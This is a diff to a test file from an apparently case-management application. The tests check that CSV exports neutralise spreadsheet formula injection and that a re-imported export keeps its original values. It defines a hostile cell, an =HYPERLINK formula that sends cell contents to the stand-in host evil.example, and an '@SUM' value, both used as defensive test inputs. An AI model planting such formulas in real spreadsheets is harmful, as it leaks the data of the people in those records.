@@ -11,8 +11,9 @@ import openpyxl
 
 from haven.accounts.actor import Actor
 from haven.cases.actions import household_update, person_update
+from haven.intake.choices import import_choices
 from haven.intake.export import cases_export
-from haven_core.intake import COLUMNS
+from haven_core.intake import COLUMNS, read_table, validate
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
 PHONE = "+1 555 0100"
@@ -48,3 +49,14 @@ def test_the_csv_export_quotes_hostile_cells(household_a: Any, caseworker_a: Any
     assert principal[_column("phone")] == "'" + PHONE
     assert principal[_column("email")] == "'@SUM(1+1)"
     assert not any(cell[:1] in "=+-@" and cell[:1] for row in rows for cell in row)
+
+
+def test_a_csv_export_imported_again_gives_the_original_values(household_a: Any, caseworker_a: Any) -> None:
+    _hostile(household_a, caseworker_a)
+    data = cases_export(actor=Actor.for_user(caseworker_a), organisation=household_a.organisation, fmt="csv")
+    report = validate(read_table(data, "export.csv"), import_choices())
+    assert report.errors == []
+    principal = next(p for _, p in report.people() if p.fields["relationship"] == "principal")
+    assert (principal.fields["phone"], principal.fields["email"]) == (PHONE, "@SUM(1+1)")
+    [household] = report.read(report.households)
+    assert household.notes == FORMULA
